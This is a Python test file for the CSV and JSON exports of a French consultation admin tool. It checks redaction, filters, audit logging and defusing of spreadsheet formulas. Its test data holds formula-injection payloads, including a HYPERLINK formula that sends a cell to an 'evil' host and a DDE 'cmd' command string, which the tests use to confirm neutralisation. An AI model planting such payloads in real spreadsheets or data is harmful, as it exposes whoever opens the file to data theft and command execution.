"""Exports: redacted and pseudonymous, formulas made inert, filters applied, streamed, audited;
and `relais export`, which goes through the same code."""

import asyncio
import csv
import io
import json
import re

import pytest
from sqlalchemy import select

from admin.exports import neutralise
from bot import cli
from bot.app import build
from storage.database import Database
from storage.tables import AuditEntry
from tests.admin.seed import add_session
from tests.conftest import SECRET, empty

BASE = "/admin/consultations/mobilite/exports"
HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"clic")', "+SUM(1+1)", "-2+3", "@SUM(1)", "\t=1+1",
           "\r=1+1", "=cmd|' /C calc'!A0"]
AWKWARD = 'un; deux, "trois"\nquatre\r\ncinq'


async def seed(db, association_id: int | None = None) -> None:
    """Stores answers: hostile texts, an awkward one, and answers on two territories."""
    for n, text in enumerate([*HOSTILE, AWKWARD]):
        await add_session(db, territory="80", channel="sms", association_id=association_id,
                          answers=({"question": "probleme", "text": f"appelez le 06 12 34 56 7{n}",
                                    "redacted": text, "theme": "prix", "score": 0.5},))
    await add_session(db, territory="59", channel="telegram", answers=(
        {"question": "probleme", "text": "trop de retards", "theme": "fiabilite", "score": 0.875},
        {"question": "modes", "text": "1 3", "value": ["train", "velo"]},
        {"question": "territoire", "text": "59000", "value": "59000"}))


INTERNATIONAL = "separateur=virgule&bom=0"  # the French spreadsheets' format is the default


def rows_of(body: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline=""),
                           delimiter=delimiter))


async def audits(db) -> list[AuditEntry]:
    async with db.read() as tx:
        return list(await tx.scalars(select(AuditEntry).where(AuditEntry.action == "export")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_formulas_get_a_leading_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Le TER est trop cher", "", "'déjà", "2+3", "a=b", " =1"])
def test_ordinary_cells_are_untouched(cell):
    assert neutralise(cell) == cell


async def test_the_answers_export_is_inert_redacted_and_keeps_every_row(as_role, db):
    await seed(db)
    web = await as_role("official")
    response = await web.get(f"{BASE}/reponses.csv?{INTERNATIONAL}")
    assert response.status == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="reponses-mobilite-\d{4}-\d\d-\d\d\.csv"',
                        response.headers["Content-Disposition"])
    assert response.headers.get("Transfer-Encoding") == "chunked"  # streamed, not buffered
    body = await response.text()
    rows = rows_of(body)
    assert rows[0] == ["répondant", "question", "valeur", "texte", "thème", "thèmes",
                       "confiance", "source", "territoire", "association", "canal", "date"]
    assert len(rows) == 1 + len(HOSTILE) + 1 + 3
    texts = [r[3] for r in rows[1:]]
    for cell in HOSTILE:
        assert "'" + cell in texts
    assert AWKWARD in texts  # ; , " and newlines survive the round trip
    assert "06 12 34" not in body and "59000" not in body  # raw text and postcode never leave
    by_question = {r[1]: r for r in rows[1:] if r[1] != "probleme"}
    assert by_question["modes"][2] == "Le train (TER) | Le vélo"
    assert by_question["territoire"][2] == ""
    retards = next(r for r in rows[1:] if r[3] == "trop de retards")
    assert retards[4:11] == ["Retards et suppressions", "Retards et suppressions", "0.875",
                             "modèle", "Nord", "", "Telegram"]
    assert retards[11].endswith("+01:00")  # Paris time in November
    assert [e.details["rows"] for e in await audits(db)] == [len(rows) - 1]


async def test_semicolons_bom_and_decimal_commas_for_french_spreadsheets(as_role, db):
    await seed(db)
    web = await as_role("official")
    response = await web.get(f"{BASE}/reponses.csv")  # as the page's first link gives it
    raw = await response.read()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = rows_of(raw.decode("utf-8-sig"), ";")
    assert len(rows) == 1 + len(HOSTILE) + 1 + 3
    assert {len(r) for r in rows} == {12}
    assert "0,875" in [r[6] for r in rows]
    assert AWKWARD in [r[3] for r in rows]


async def test_filters_apply_to_the_answers_and_themes_exports(as_role, db, association):
    await seed(db, association.id)
    web = await as_role("official")
    url = f"{BASE}/reponses.csv?territoire=59&canal=telegram&{INTERNATIONAL}"
    rows = rows_of(await (await web.get(url)).text())
    assert len(rows) == 1 + 3 and {r[8] for r in rows[1:]} == {"Nord"}
    rows = rows_of(await (await web.get(
        f"{BASE}/reponses.csv?association={association.id}&theme=prix&{INTERNATIONAL}")).text())
    assert len(rows) == 1 + len(HOSTILE) + 1
    assert {r[9] for r in rows[1:]} == {"Les Amis du Vélo"}
    themes = json.loads(await (await web.get(f"{BASE}/themes.json?territoire=80")).text())
    assert themes == [{"question": "probleme", "thème": "prix", "libellé": "Prix et tarifs",
                       "réponses": len(HOSTILE) + 1, "part": 1.0}]
    themes = rows_of(await (await web.get(f"{BASE}/themes.csv?{INTERNATIONAL}")).text())
    assert themes[1:] == [["probleme", "prix", "Prix et tarifs", "8", "0.889"],
                          ["probleme", "fiabilite", "Retards et suppressions", "1", "0.111"]]
    details = [e.details for e in await audits(db)]
    assert details[0]["filters"] == "territoire=59&canal=telegram"
    assert [d["rows"] for d in details] == [3, 8, 1, 2]


async def test_answers_with_several_themes_say_so_in_both_exports(as_role, db):
    await add_session(db, channel="sms", answers=(
        {"question": "probleme", "text": "cher et en retard", "theme": "prix",
         "themes": ["prix", "fiabilite"], "score": 0.6},))
    await add_session(db, channel="sms", answers=(
        {"question": "probleme", "text": "cher", "theme": "prix", "score": 0.9},))
    web = await as_role("official")
    rows = rows_of(await (await web.get(f"{BASE}/reponses.csv?{INTERNATIONAL}")).text())
    both = next(r for r in rows if r[3] == "cher et en retard")
    assert both[4:6] == ["Prix et tarifs", "Prix et tarifs | Retards et suppressions"]
    themes = rows_of(await (await web.get(f"{BASE}/themes.csv?{INTERNATIONAL}")).text())
    # Two answers: both about prices, one also about delays; shares add up to 1.5.
    assert themes[1:] == [["probleme", "prix", "Prix et tarifs", "2", "1.000"],
                          ["probleme", "fiabilite", "Retards et suppressions", "1", "0.500"]]


async def test_the_json_export_is_one_array(as_role, db):
    await seed(db)
    web = await as_role("official")
    response = await web.get(f"{BASE}/reponses.json?question=probleme")
    assert response.headers["Content-Type"] == "application/json; charset=utf-8"
    records = json.loads(await response.text())
    assert len(records) == len(HOSTILE) + 2
    assert {r["question"] for r in records} == {"probleme"}
    assert records[-1]["confiance"] == 0.875 and records[-1]["territoire"] == "Nord"
    assert HOSTILE[0] in [r["texte"] for r in records]  # JSON is not a spreadsheet


async def test_the_indicators_export(as_role, db):
    await seed(db)
    web = await as_role("official")
    rows = rows_of(await (await web.get(f"{BASE}/indicateurs.csv?{INTERNATIONAL}")).text())
    assert rows[0] == ["indicateur", "libellé", "valeur", "unité", "affiché", "définition"]
    by_key = {r[0]: r for r in rows[1:]}
    assert by_key["participants"][2] == "9"
    assert by_key["taux_completion"][2] == "1.000"
    assert by_key["delai_retour"][3] == "heures"  # a duration is given in hours
    assert by_key["participants_association"][1:4] == ["Sans association", "9", "nombre"]
    assert len(json.loads(await (await web.get(f"{BASE}/indicateurs.json")).text())) == \
        len(rows) - 1


@pytest.mark.parametrize("query", ["theme=inconnu", "du=hier", "separateur=tab", "bom=2",
                                   "question=inconnue"])
async def test_bad_options_are_refused_before_any_row(as_role, db, query):
    await seed(db)
    web = await as_role("official")
    response = await web.get(f"{BASE}/reponses.csv?{query}")
    assert response.status in (400, 404)
    assert "text/html" in response.headers["Content-Type"]
    assert await audits(db) == []


@pytest.mark.parametrize("path", ["", "/reponses.csv", "/themes.json", "/indicateurs.csv"])
async def test_associations_cannot_export(as_role, db, path):
    await seed(db)
    web = await as_role("association")
    assert (await web.get(BASE + path)).status == 403


async def test_the_exports_page_carries_the_filters_to_the_files(as_role, db):
    web = await as_role("official")
    page = await (await web.get(f"{BASE}?theme=prix&territoire=80&separateur=point-virgule"))\
        .text()
    assert "/exports/reponses.csv?theme=prix&amp;territoire=80&amp;separateur=point-virgule" \
        in page
    assert "/exports/themes.json?theme=prix&amp;territoire=80" in page
    assert '<input type="hidden" name="theme" value="prix">' in page
    assert (await web.get(f"{BASE}?territoire=99")).status == 400


def test_relais_export_writes_the_same_file_from_the_command_line(
        database_url, settings, monkeypatch, tmp_path, capsys):
    async def prepare() -> None:
        db = Database(database_url)
        await empty(db)
        relais = build(settings)
        await relais.prepare()
        await relais.stop()
        await seed(db)
        await db.close()

    asyncio.run(prepare())
    monkeypatch.setenv("RELAIS_DATABASE_URL", database_url)
    monkeypatch.setenv("RELAIS_SECRET_KEY", SECRET)
    monkeypatch.setenv("RELAIS_ENV", "test")
    out = tmp_path / "reponses.csv"
    assert cli.main(["export", "--consultation", "mobilite", "--separateur", ";",
                     "--territoire", "80", "--out", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # French spreadsheets' format by default
    rows = rows_of(raw.decode("utf-8"), ";")
    assert len(rows) == 1 + len(HOSTILE) + 1
    assert "'" + HOSTILE[0] in [r[3] for r in rows]
    assert "8 ligne(s) exportée(s)" in capsys.readouterr().err
    assert not list(tmp_path.glob("*.partiel"))

    assert cli.main(["export", "--consultation", "mobilite", "--what", "themes",
                     "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["thème"] == "prix"

    for argv, message in ((["--theme", "inconnu"], "Valeur inconnue pour le filtre thème"),
                          (["--association", "Personne"], "association inconnue"),
                          (["--du", "demain"], "Date invalide")):
        assert cli.main(["export", "--consultation", "mobilite", *argv]) == 1
        err = capsys.readouterr().err
        assert message in err and "Traceback" not in err
    assert cli.main(["export", "--consultation", "inconnue"]) == 1
    assert "consultation inconnue" in capsys.readouterr().err

    async def audited() -> list[dict]:
        db = Database(database_url)
        async with db.read() as tx:
            found = list(await tx.scalars(select(AuditEntry.details)
                                          .where(AuditEntry.actor == "cli")))
        await db.close()
        return found

    assert [d["rows"] for d in asyncio.run(audited())] == [8, 2]

